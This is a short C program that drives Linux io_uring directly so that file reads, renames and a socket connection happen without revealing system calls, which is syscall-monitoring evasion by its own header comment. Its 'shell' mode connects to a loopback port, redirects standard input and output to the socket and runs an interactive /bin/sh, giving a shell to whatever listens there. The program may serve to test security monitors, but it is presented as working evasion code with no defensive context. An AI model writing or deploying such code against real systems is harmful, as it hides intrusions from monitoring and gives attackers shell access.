// Asks the kernel through an io_uring, so that no system call names what is asked for:
//   ring read FILE | ring rename OLD NEW | ring shell PORT
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_params params;
static struct io_uring_sqe *entries;
static char *submitted, *completed;
static int ring;

static void *map(size_t size, off_t what) {
    return mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, what);
}

static void open_ring(void) {
    ring = syscall(SYS_io_uring_setup, 8, &params);
    submitted = map(params.sq_off.array + params.sq_entries * 4, IORING_OFF_SQ_RING);
    completed = map(params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
    entries = map(params.sq_entries * sizeof *entries, IORING_OFF_SQES);
}

static int ask(struct io_uring_sqe entry) {
    unsigned *tail = (unsigned *)(submitted + params.sq_off.tail);
    unsigned *head = (unsigned *)(completed + params.cq_off.head);
    unsigned at = *tail & (params.sq_entries - 1);
    entries[at] = entry;
    ((unsigned *)(submitted + params.sq_off.array))[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(completed + params.cq_off.cqes);
    int result = done[*head & (params.cq_entries - 1)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

int main(int count, char **args) {
    struct io_uring_sqe entry = {.fd = AT_FDCWD};
    char bytes[64];
    if (count < 3) return 2;
    open_ring();
    if (!strcmp(args[1], "read")) {
        entry.opcode = IORING_OP_OPENAT;
        entry.addr = (unsigned long)args[2];
        return read(ask(entry), bytes, sizeof bytes) > 0 ? 0 : 1;
    }
    if (!strcmp(args[1], "rename")) {
        entry.opcode = IORING_OP_RENAMEAT;
        entry.len = AT_FDCWD;
        entry.addr = (unsigned long)args[2];
        entry.addr2 = (unsigned long)args[3];
        return ask(entry) != 0;
    }
    struct sockaddr_in peer = {AF_INET, htons(atoi(args[2])), {htonl(INADDR_LOOPBACK)}};
    entry.opcode = IORING_OP_CONNECT;
    entry.fd = socket(AF_INET, SOCK_STREAM, 0);
    entry.addr = (unsigned long)&peer;
    entry.off = sizeof peer;
    if (ask(entry)) return 1;
    for (int stream = 0; stream < 3; stream++) dup2(entry.fd, stream);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 1;
}
